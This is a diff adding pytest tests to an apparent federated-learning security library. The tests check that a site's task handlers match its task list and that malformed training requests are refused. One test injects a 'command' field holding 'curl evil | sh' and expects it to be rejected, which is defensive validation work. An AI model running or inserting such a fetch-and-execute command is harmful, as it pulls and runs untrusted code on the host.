@@ -3,7 +3,7 @@ import pytest
 from fedsec.core.errors import ConfigError
 from fedsec.engines.nvflare.gate import AcceptanceGate
 from fedsec.engines.nvflare.plan import PlanRefused
-from fedsec.engines.nvflare.site import Site
+from fedsec.engines.nvflare.site import TASKS, Site
 from fedsec.engines.nvflare.site_config import (
     GateConfig,
     SecureAggregationConfig,
@@ -118,6 +118,7 @@ def _train_request(site, consortium, **plan_changes):
     from fedsec.engines.nvflare.coordinator import Coordinator
     from fedsec.engines.nvflare.plan import DeploymentSettings, JobSpec
     from fedsec.engines.nvflare.wire import params_to_wire
+    from fedsec.fl.strategies import SiteTask
 
     _, scenario = consortium
 
@@ -129,7 +130,7 @@ def _train_request(site, consortium, **plan_changes):
         JobSpec.from_scenario(scenario, [], DeploymentSettings()), One(), [site.name]
     )
     params, setup, weights = coordinator.setup()
-    plan = coordinator.plan(1, 1, weights) | plan_changes
+    plan = coordinator.plan(1, 1, weights, SiteTask()) | plan_changes
     return {"plan": plan, "model": setup, "params": params_to_wire(params)}, len(setup["classes"])
 
 
@@ -154,3 +155,29 @@ def test_a_site_may_bound_the_learning_rate_lower(consortium):
     request, _ = _train_request(strict, consortium)
     with pytest.raises(PlanRefused, match=r"training\.lr 0\.05 exceeds this site's limit 0\.01"):
         strict.handle("fedsec_train", request)
+
+
+def test_every_task_a_job_may_send_has_one_handler(site):
+    """The executor's task list and the site's handler table name the same tasks: no task
+    reaches a method by its name."""
+    assert set(site.handlers()) == set(TASKS)
+    assert site.handlers()["fedsec_he_decrypt"] == site.he.decrypt
+    assert site.handlers()["fedsec_secagg_mask"] == site.secure.mask
+
+
+def test_a_malformed_training_task_is_refused_naming_the_field(site, consortium):
+    """Typed on receipt: a field the task does not have, one missing, or arrays of the wrong
+    kind are refused before anything runs, whatever the coordinator sends."""
+    request, _ = _train_request(site, consortium)
+    with pytest.raises(PlanRefused, match="training task refused: unexpected field 'command'"):
+        site.handle("fedsec_train", request | {"command": "curl evil | sh"})
+    missing = {k: v for k, v in request.items() if k != "params"}
+    with pytest.raises(PlanRefused, match="training task refused: missing field 'params'"):
+        site.handle("fedsec_train", missing)
+    with pytest.raises(PlanRefused, match=r"training task \(params\) refused: expected a list"):
+        site.handle("fedsec_train", request | {"params": ["not", "arrays"]})
+    with pytest.raises(PlanRefused, match=r"control variate: expected \d+ parameter arrays"):
+        site.handle("fedsec_train", request | {"control": request["params"][:1]})
+    with pytest.raises(PlanRefused, match="evaluation refused: missing field 'target_fpr'"):
+        site.handle("fedsec_evaluate", request)
+    assert "params" in site.handle("fedsec_train", request)
